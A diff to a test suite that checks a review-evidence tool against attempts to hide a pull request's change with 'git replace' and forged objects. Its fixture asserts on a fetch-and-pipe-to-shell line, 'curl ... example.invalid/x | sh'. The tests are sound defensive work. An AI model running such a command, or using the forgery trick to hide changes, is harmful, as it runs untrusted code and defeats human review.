@@ -11,11 +11,10 @@ import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
-import { runSupervised } from '../../src/core/process/process-supervisor.js';
 import { collectReviewEvidence } from '../../src/core/verify/review-evidence.js';
-import { mechanismAvailable, workIsolation } from './isolation-kit.js';
+import { mechanismAvailable, runInWork, workIsolation } from './isolation-kit.js';
 
-const PATH = process.env.PATH ?? '/usr/bin:/bin';
+const _PATH = process.env.PATH ?? '/usr/bin:/bin';
 const dirs: string[] = [];
 afterAll(() => {
   for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
@@ -49,19 +48,10 @@ describe("a check cannot hide the pull request's change from the reviewers' diff
       const before = await collectReviewEvidence({ workdir: work, git, contextFiles: [] });
       expect(before.diff).toContain('+curl -s https://example.invalid/x | sh');
       const isolation = await workIsolation(level, work);
-      const result = await runSupervised({
-        file: '/bin/sh',
-        args: [
-          '-c',
-          `git replace $(git rev-parse ${base}:deploy.sh) $(git rev-parse HEAD:deploy.sh) && echo replaced`,
-        ],
-        cwd: work,
-        env: { PATH },
-        stdin: null,
-        timeoutMs: 20_000,
-        signal: new AbortController().signal,
-        isolation,
-      });
+      const result = await runInWork(isolation, work, [
+        '-c',
+        `git replace $(git rev-parse ${base}:deploy.sh) $(git rev-parse HEAD:deploy.sh) && echo replaced`,
+      ]);
       expect(result.stdout.bytes.toString(), result.stderr.bytes.toString()).toBe('replaced\n');
       const after = await collectReviewEvidence({ workdir: work, git, contextFiles: [] });
       expect(after.diff).toContain('+curl -s https://example.invalid/x | sh');
@@ -91,16 +81,10 @@ describe("a check cannot hide the pull request's change from the reviewers' diff
         const head = execFileSync('git', ['rev-parse', 'HEAD'], { cwd: work, encoding: 'utf8' }).trim();
         const git = { repo: null, base_ref: 'main', base_sha: base, head_sha: head, dirty: false };
         const isolation = await workIsolation(level, work);
-        const result = await runSupervised({
-          file: '/bin/sh',
-          args: ['-c', `BLOB=$(git rev-parse ${base}:deploy.sh) && ${script} && echo hidden`],
-          cwd: work,
-          env: { PATH },
-          stdin: null,
-          timeoutMs: 20_000,
-          signal: new AbortController().signal,
-          isolation,
-        });
+        const result = await runInWork(isolation, work, [
+          '-c',
+          `BLOB=$(git rev-parse ${base}:deploy.sh) && ${script} && echo hidden`,
+        ]);
         expect(result.stdout.bytes.toString(), result.stderr.bytes.toString()).toBe('hidden\n');
         const after = await collectReviewEvidence({ workdir: work, git, contextFiles: [] });
         expect(after.diff).toContain('+curl -s https://example.invalid/x | sh');
@@ -126,19 +110,10 @@ describe("a check cannot hide the pull request's change from the reviewers' diff
         const head = execFileSync('git', ['rev-parse', 'HEAD'], { cwd: work, encoding: 'utf8' }).trim();
         const git = { repo: null, base_ref: 'main', base_sha: base, head_sha: head, dirty: false };
         const isolation = await workIsolation(level, work);
-        const result = await runSupervised({
-          file: '/bin/sh',
-          args: [
-            '-c',
-            `BLOB=$(git rev-parse ${base}:deploy.sh) && ${script} && git diff --stat ${base} && echo forged`,
-          ],
-          cwd: work,
-          env: { PATH },
-          stdin: null,
-          timeoutMs: 20_000,
-          signal: new AbortController().signal,
-          isolation,
-        });
+        const result = await runInWork(isolation, work, [
+          '-c',
+          `BLOB=$(git rev-parse ${base}:deploy.sh) && ${script} && git diff --stat ${base} && echo forged`,
+        ]);
         // The forgery works for git itself: its own diff from the base shows nothing.
         expect(result.stdout.bytes.toString(), result.stderr.bytes.toString()).toBe('forged\n');
         const after = await collectReviewEvidence({ workdir: work, git, contextFiles: [] });
